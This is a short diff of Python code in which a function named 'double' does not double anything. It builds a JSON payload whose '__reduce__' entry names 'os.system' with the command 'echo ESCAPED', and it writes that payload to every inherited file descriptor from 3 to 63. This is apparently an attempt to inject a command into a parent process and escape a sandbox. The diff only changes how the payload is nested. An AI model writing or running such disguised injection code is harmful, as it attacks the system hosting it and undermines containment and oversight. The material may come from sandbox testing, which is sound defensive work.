@@ -6,7 +6,7 @@ import os
 
 
 def double(x):
-    body = json.dumps({"value": {"__reduce__": ["os.system", "echo ESCAPED"]}}).encode()
+    body = json.dumps({"d": [["value", {"__reduce__": ["os.system", "echo ESCAPED"]}]]}).encode()
     for fd in range(3, 64):
         try:
             os.write(fd, len(body).to_bytes(4, "big") + body)
